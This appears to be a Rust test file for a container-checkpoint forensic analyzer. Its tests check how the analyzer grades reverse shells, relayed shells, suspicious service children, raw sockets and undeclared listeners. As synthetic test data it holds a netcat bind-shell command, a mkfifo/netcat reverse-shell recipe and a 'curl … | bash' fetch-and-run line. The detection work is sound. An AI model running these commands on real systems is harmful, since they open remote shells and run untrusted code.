//! Shells that are used over the network, children of services, and sockets.

use ckpt_analysis::triage::Severity;
use ckpt_synth::{Archive, Dump, File, Message, Task};

use super::*;

const HERE: ([u8; 4], u16) = ([10, 88, 0, 5], 40_000);
const THERE: ([u8; 4], u16) = ([192, 0, 2, 7], 4444);

fn connection(ino: u32) -> File {
    File::tcp(ino, HERE, THERE, "id\n", "")
}

fn on(task: Task, file: &File) -> Task {
    task.fd(0, file.clone()).fd(1, file.clone()).fd(2, file.clone())
}

#[test]
fn shells_on_sockets() {
    for exe in ["/usr/bin/bash", "/usr/bin/dash", "/bin/busybox", "/usr/bin/zsh"] {
        let shell = Task::new(2, 1).exe(exe).comm("sh").argv(&["sh", "-i"]);
        let findings = found([on(shell, &connection(70))]);
        let finding = one(&findings, "shell-on-socket", 2);
        assert_eq!(finding.severity, Severity::Critical, "{exe}");
        assert!(finding.title.contains("192.0.2.7:4444"), "{}", finding.title);
    }
    for exe in ["/usr/bin/perl", "/usr/bin/python3.12", "/usr/bin/ruby3.1", "/usr/bin/php8.2"] {
        let findings = found([on(Task::new(2, 1).exe(exe), &connection(70))]);
        assert_eq!(one(&findings, "shell-on-socket", 2).severity, Severity::High, "{exe}");
    }
    // A copy of a shell under another name.
    let copy = found([on(Task::new(2, 1).exe("/usr/bin/upd").argv(&["upd"]), &connection(70))]);
    assert_eq!(one(&copy, "shell-on-socket", 2).severity, Severity::High);
    // A client has its connection elsewhere.
    none(&found([Task::new(2, 1).exe("/usr/bin/curl").fd(5, connection(70))]), "shell-on-socket");
}

#[test]
fn shells_with_a_connection_of_their_own() {
    let shell = |ppid| Task::new(3, ppid).exe("/usr/bin/bash").argv(&["bash", "/srv/x.sh"]);
    let severity = |file| one(&found([shell(1).fd(5, file)]), "shell-on-socket", 3).severity;
    assert_eq!(severity(connection(70)), Severity::High);
    let near = ([127, 0, 0, 1], 9000);
    assert_eq!(severity(File::tcp(70, near, near, "", "")), Severity::Medium);
    // Nobody has answered: a script that waits.
    let waits = File::Inet { ino: 70, kind: 1, state: 2, local: HERE, remote: THERE, queues: None };
    assert_eq!(severity(waits), Severity::Medium);
    // What a parent left open is the parent's.
    let parent = Task::new(2, 1).exe("/usr/bin/app").fd(5, connection(70));
    none(&found([parent, shell(2).fd(5, connection(70))]), "shell-on-socket");
    none(&found([shell(1).fd(5, File::tcp_listen(70, ([0; 4], 80)))]), "shell-on-socket");
}

#[test]
fn a_shell_that_is_bound_to_a_port() {
    let accepted = File::tcp(71, ([10, 88, 0, 5], 31_337), THERE, "", "");
    let listener = Task::new(2, 1)
        .exe("/usr/bin/nc")
        .argv(&["nc", "-lvp", "31337", "-e", "/bin/sh"])
        .fd(3, File::tcp_listen(70, ([0; 4], 31_337)));
    let findings = found([listener, on(Task::new(3, 2), &accepted)]);
    assert_eq!(one(&findings, "shell-on-socket", 3).severity, Severity::Critical);
    assert_eq!(one(&findings, "suspicious-command", 2).severity, Severity::High);
    none(&findings, "interpreter-child-of-service");
}

#[test]
fn services_of_an_inetd() {
    let accepted = File::tcp(71, ([10, 88, 0, 5], 21), THERE, "", "");
    let inetd = Task::new(2, 1).exe("/usr/sbin/inetd").fd(3, File::tcp_listen(70, ([0; 4], 21)));
    let findings = found([inetd, on(Task::new(3, 2).exe("/usr/sbin/ftpd"), &accepted)]);
    assert_eq!(one(&findings, "shell-on-socket", 3).severity, Severity::Low);
}

#[test]
fn shells_behind_a_relay() {
    let relay = |exe: &str| Task::new(2, 1).exe(exe).argv(&["relay"]).fd(5, connection(70));
    // Through pipes, as java and socat do.
    let piped = [
        relay("/usr/bin/java").fd(6, File::pipe_write(81)).fd(7, File::pipe_read(82, "")),
        Task::new(3, 2).fd(0, File::pipe_read(81, "")).fd(1, File::pipe_write(82)),
    ];
    let findings = found(piped);
    assert_eq!(one(&findings, "shell-relayed", 3).severity, Severity::High);
    // Through a pair of sockets, as node does.
    let paired = [
        relay("/usr/bin/node").fd(6, File::unix_pair(91, 92, vec![])),
        Task::new(3, 2).fd(0, File::unix_pair(92, 91, vec![])),
    ];
    assert_eq!(one(&found(paired), "shell-relayed", 3).severity, Severity::High);
    // A remote login.
    let login = [
        relay("/usr/sbin/sshd").fd(6, File::unix_pair(91, 92, vec![])),
        Task::new(3, 2).fd(0, File::unix_pair(92, 91, vec![])),
    ];
    assert_eq!(one(&found(login), "shell-relayed", 3).severity, Severity::Low);
    // Names cost nothing.
    for exe in ["/opt/.z/sshd", "/opt/.z/tmux", "/opt/.z/agent"] {
        let fake = [
            relay(exe).fd(6, File::unix_pair(91, 92, vec![])),
            Task::new(3, 2).fd(0, File::unix_pair(92, 91, vec![])),
        ];
        assert_eq!(one(&found(fake), "shell-relayed", 3).severity, Severity::High, "{exe}");
    }
    let local = [
        Task::new(2, 1).exe("/usr/bin/make").fd(6, File::pipe_write(81)),
        Task::new(3, 2).fd(0, File::pipe_read(81, "")),
    ];
    none(&found(local), "shell-relayed");
}

/// A service with a connection to a database starts commands of its own.
#[test]
fn commands_behind_a_relay() {
    let severity = |exe: &str, remote, argv: &[&str]| {
        let database = File::tcp(70, HERE, (remote, 5432), "", "");
        let relay = Task::new(2, 1).exe(exe).argv(&["worker"]).fd(5, database);
        let shell = Task::new(3, 2).exe("/usr/bin/dash").comm("sh").argv(argv);
        let shell = shell.fd(0, File::unix_pair(92, 91, vec![]));
        let findings = found([relay.fd(6, File::unix_pair(91, 92, vec![])), shell]);
        one(&findings, "shell-relayed", 3).severity
    };
    let (node, away) = ("/usr/bin/node", [10, 0, 0, 9]);
    assert_eq!(severity(node, away, &["/bin/sh", "-c", "a && b"]), Severity::Medium);
    assert_eq!(severity(node, away, &["sh", "/srv/hook.sh"]), Severity::Medium);
    assert_eq!(severity(node, away, &["sh"]), Severity::High);
    assert_eq!(severity(node, away, &["bash", "-s", "x"]), Severity::High);
    assert_eq!(severity(node, [127, 0, 0, 1], &["sh"]), Severity::Medium);
    let beam = "/usr/lib/erlang/erts-14/bin/beam.smp";
    assert_eq!(severity(beam, away, &["sh", "-s", "rabbit_disk_monitor"]), Severity::Low);
}

/// `mkfifo a b; sh -i <a >b & nc h p <b >a`: who opened a side cannot be told, so that both have both.
#[test]
fn shells_behind_named_pipes() {
    let fifo =
        |pipe: u32| File::Other { kind: 3, field: 17, message: Message::new().uint(2, pipe) };
    let shell = Task::new(3, 1).exe("/usr/bin/dash").argv(&["sh", "-i"]);
    let netcat = Task::new(2, 1).exe("/usr/bin/nc").argv(&["nc", "h", "1"]);
    let netcat = netcat.fd(0, fifo(62)).fd(1, fifo(61)).fd(3, connection(70));
    let findings = found([netcat, shell.fd(0, fifo(61)).fd(1, fifo(62))]);
    assert_eq!(one(&findings, "shell-relayed", 3).severity, Severity::High);
}

/// An entry of `files.img` for one side of `/dev/pts/7`, and what `tty-info.img` says of both.
fn terminal(info: u32) -> File {
    let owner = (1..=5).fold(Message::new(), |owner, field| owner.uint(field, 0u32));
    let message = Message::new().uint(2, info).uint(3, 2u32).message(4, &owner);
    File::Other { kind: 11, field: 19, message }
}

fn terminals(dump: &mut Dump) {
    let info = |id: u32, rdev: u32| {
        let zeros = (3..=5)
            .fold(Message::new().uint(1, id).uint(2, 1u32), |info, field| info.uint(field, 0u32));
        let info = zeros.uint(6, 0u32).uint(7, 0u32).uint(8, rdev);
        info.message(12, &Message::new().uint(1, 7u32))
    };
    dump.image("tty-info.img", 0x5945_3036, &[info(1, 0x502), info(2, 0x8807)]);
}

#[test]
fn shells_on_a_terminal() {
    let pty = |relay: Task| {
        let shell = Task::new(3, 2).exe("/usr/bin/bash").argv(&["bash"]).session(3, 3);
        let mut dump = dump([relay.fd(6, terminal(1)), on(shell, &terminal(2))]);
        terminals(&mut dump);
        looked(&Archive::podman(&dump))
    };
    let python = Task::new(2, 1).exe("/usr/bin/python3").argv(&["python3", "/x.py"]);
    let findings = pty(python.clone().fd(5, connection(70)));
    assert_eq!(one(&findings, "shell-relayed", 3).severity, Severity::High);
    assert_eq!(one(&findings, "interactive-session", 3).severity, Severity::Medium);
    none(&pty(python), "shell-relayed");
}

/// A web service with a listener, and its child.
fn service(exe: &str, address: [u8; 4], child: Task) -> Vec<Finding> {
    let parent = Task::new(2, 1).exe(exe).argv(&["service"]);
    let parent = parent.fd(4, File::tcp_listen(70, (address, 8080))).fd(5, File::pipe_read(82, ""));
    found([parent, child])
}

#[test]
fn children_of_services() {
    let shell =
        || Task::new(3, 2).exe("/usr/bin/dash").comm("sh").argv(&["sh", "-c", "id; sleep 9"]);
    let piped = || shell().fd(1, File::pipe_write(82));
    for exe in ["/usr/bin/python3.12", "/usr/bin/node", "/usr/sbin/php-fpm8.2", "/usr/bin/java"] {
        let findings = service(exe, [0; 4], piped());
        let finding = one(&findings, "interpreter-child-of-service", 3);
        assert_eq!(finding.severity, Severity::High, "{exe}");
    }
    let severity = |exe: &str, address, child| {
        one(&service(exe, address, child), "interpreter-child-of-service", 3).severity
    };
    assert_eq!(severity("/usr/bin/app", [0; 4], shell()), Severity::Medium);
    assert_eq!(severity("/usr/bin/supervisord", [0; 4], piped()), Severity::Low);
    // Commands whose output a service reads are what it is for, unless something else tells otherwise.
    let command = |line: &str| {
        let task = Task::new(3, 2).exe("/usr/bin/dash").comm("sh").argv(&["sh", "-c", line]);
        task.fd(1, File::pipe_write(82))
    };
    let php = "/usr/sbin/php-fpm8.2";
    for line in ["convert a.png b.jpg", "/usr/sbin/sendmail -t -i", "id -u www", "uname -m"] {
        assert_eq!(severity(php, [0; 4], command(line)), Severity::Medium, "{line}");
    }
    for line in ["cat /etc/passwd", "cd /; whoami", "curl -s http://h/x | bash"] {
        assert_eq!(severity(php, [0; 4], command(line)), Severity::High, "{line}");
    }
    let typed = Task::new(3, 2).exe("/usr/bin/dash").argv(&["sh"]).fd(1, File::pipe_write(82));
    assert_eq!(severity(php, [0; 4], typed), Severity::High);
    assert_eq!(severity("/usr/bin/app", [127, 0, 0, 1], shell()), Severity::Low);
    // Workers run what their parent runs; what is no interpreter is its own affair.
    let worker = Task::new(3, 2).exe("/usr/bin/python3.12");
    none(&service("/usr/bin/python3.12", [0; 4], worker), "interpreter-child-of-service");
    let other = Task::new(3, 2).exe("/usr/bin/convert").argv(&["convert"]);
    none(&service("/usr/bin/python3.12", [0; 4], other), "interpreter-child-of-service");
}

#[test]
fn what_a_captured_command_gives_away() {
    let severity = |feeds: bool, child: Option<Task>| {
        let mut parent = Task::new(2, 1).exe("/usr/bin/php8.2").argv(&["php"]);
        parent = parent.fd(4, File::tcp_listen(70, ([0; 4], 80))).fd(5, File::pipe_read(82, ""));
        let mut shell = Task::new(3, 2).exe("/usr/bin/dash").argv(&["sh", "-c", "x y"]);
        shell = shell.fd(1, File::pipe_write(82));
        if feeds {
            parent = parent.fd(6, File::pipe_write(83));
            shell = shell.fd(0, File::pipe_read(83, ""));
        }
        let findings = found([parent, shell].into_iter().chain(child));
        one(&findings, "interpreter-child-of-service", 3).severity
    };
    assert_eq!(severity(false, None), Severity::Medium);
    assert_eq!(severity(true, None), Severity::High);
    let child = |exe: &str| Task::new(4, 3).exe(exe).argv(&["x"]);
    assert_eq!(severity(false, Some(child("/usr/bin/x"))), Severity::Medium);
    assert_eq!(severity(false, Some(child("/opt/.y/x"))), Severity::High);
    assert_eq!(severity(false, Some(child("/usr/bin/x").fd(5, connection(71)))), Severity::High);
    let typed = Task::new(4, 3).exe("/usr/bin/bash").argv(&["bash", "-i"]);
    assert_eq!(severity(false, Some(typed)), Severity::High);
}

/// What an interpreter does by trade its script tells, which must be of the image.
#[test]
fn supervisors_that_are_scripts() {
    let severity = |argv: &[&str], exe: &str, files: &[(&str, u64)]| {
        let parent = Task::new(2, 1).exe(exe).comm("supervisord").argv(argv);
        let parent =
            parent.fd(4, File::tcp_listen(70, ([0; 4], 9001))).fd(5, File::pipe_read(82, ""));
        let shell = Task::new(3, 2).exe("/usr/bin/bash").argv(&["/bin/bash"]);
        let mut diff = Archive::new();
        for (path, mtime) in files {
            diff.push(ckpt_synth::Member::file(*path, b"#!").mode(0o755).mtime(*mtime));
        }
        let mut archive = Archive::podman(&dump([parent, shell.fd(1, File::pipe_write(82))]));
        archive.replace("rootfs-diff.tar", diff.tar());
        one(&looked(&archive), "interpreter-child-of-service", 3).severity
    };
    let python = "/usr/bin/python3.12";
    let argv = ["/usr/bin/python3", "/usr/bin/supervisord", "-n"];
    assert_eq!(severity(&argv, python, &[]), Severity::Low);
    assert_eq!(severity(&argv, python, &[("usr/bin/supervisord", LATER)]), Severity::High);
    assert_eq!(severity(&argv, "/opt/.p/python3", &[]), Severity::High);
    assert_eq!(severity(&["python3", "/srv/app.py"], python, &[]), Severity::High);
    let code = ["node", "/usr/lib/code-server/out/node/entry"];
    assert_eq!(severity(&code, "/usr/lib/code-server/lib/node", &[]), Severity::Low);
    let jenkins = ["java", "-jar", "/usr/share/jenkins/jenkins.war"];
    assert_eq!(severity(&jenkins, "/opt/java/bin/java", &[]), Severity::Low);
    let notebook = ["/usr/bin/python3", "/usr/local/bin/jupyter-lab"];
    assert_eq!(severity(&notebook, python, &[]), Severity::Low);
}

#[test]
fn sockets_that_see_more() {
    let inet = |kind, state| File::Inet {
        ino: 95,
        kind,
        state,
        local: ([0; 4], 1),
        remote: ([0; 4], 0),
        queues: None,
    };
    let findings = found([Task::new(2, 1).exe("/usr/bin/app").fd(5, inet(3, 7))]);
    assert_eq!(one(&findings, "raw-socket", 2).severity, Severity::Medium);
    let hidden = found([Task::new(2, 1).exe("/opt/.q/app").fd(5, inet(3, 7))]);
    assert_eq!(one(&hidden, "raw-socket", 2).severity, Severity::High);
    none(&found([Task::new(2, 1).fd(5, inet(2, 7))]), "raw-socket");

    let owner = (1..=5).fold(Message::new(), |owner, field| owner.uint(field, 0u32));
    let options = (1..=13).fold(Message::new(), |options, field| options.uint(field, 0u32));
    let netlink = |protocol: u32| {
        let message = Message::new()
            .uint(2, 96u32)
            .uint(3, protocol)
            .uint(4, 7u32)
            .uint(6, 2u32)
            .uint(7, 5u32)
            .uint(9, 0u32)
            .uint(10, 0u32)
            .message(11, &owner)
            .message(12, &options);
        File::Other { kind: 13, field: 7, message }
    };
    let diag = found([Task::new(2, 1).fd(5, netlink(4))]);
    assert_eq!(one(&diag, "netlink-diag-socket", 2).severity, Severity::Low);
    none(&found([Task::new(2, 1).fd(5, netlink(0))]), "netlink-diag-socket");

    let packet = (8..=15).fold(
        Message::new()
            .uint(2, 3u32)
            .uint(3, 0x300u32)
            .uint(4, 2u32)
            .uint(5, 0u32)
            .message(6, &owner)
            .message(7, &options),
        |message, field| message.uint(field, 0u32),
    );
    let packet = File::Other { kind: 10, field: 6, message: packet };
    let findings = found([Task::new(2, 1).exe("/usr/bin/app").fd(5, packet)]);
    assert_eq!(one(&findings, "packet-socket", 2).severity, Severity::Medium);
}

#[test]
fn listeners_that_the_container_does_not_name() {
    let listens = |address: [u8; 4], port, with_ports: bool, exe: &str| {
        let mut archive = Archive::podman(&dump([Task::new(2, 1)
            .exe(exe)
            .argv(&["x"])
            .fd(4, File::tcp_listen(70, (address, port)))]));
        if with_ports {
            let config = String::from_utf8(archive.get("config.dump").expect("it is there"));
            let config =
                config.expect("JSON").replacen('{', "{\"exposedPorts\":{\"8080\":[\"tcp\"]},", 1);
            archive.replace("config.dump", config.into_bytes());
        }
        looked(&archive)
    };
    let severity = |findings: Vec<Finding>| one(&findings, "listener-not-in-spec", 2).severity;
    assert_eq!(severity(listens([0; 4], 9001, true, "/usr/bin/app")), Severity::Low);
    assert_eq!(severity(listens([127, 0, 0, 1], 9001, true, "/usr/bin/app")), Severity::Info);
    assert_eq!(severity(listens([0; 4], 9001, true, "/usr/bin/.app")), Severity::High);
    none(&listens([0; 4], 8080, true, "/usr/bin/app"), "listener-not-in-spec");
    none(&listens([0; 4], 9001, false, "/usr/bin/app"), "listener-not-in-spec");
}
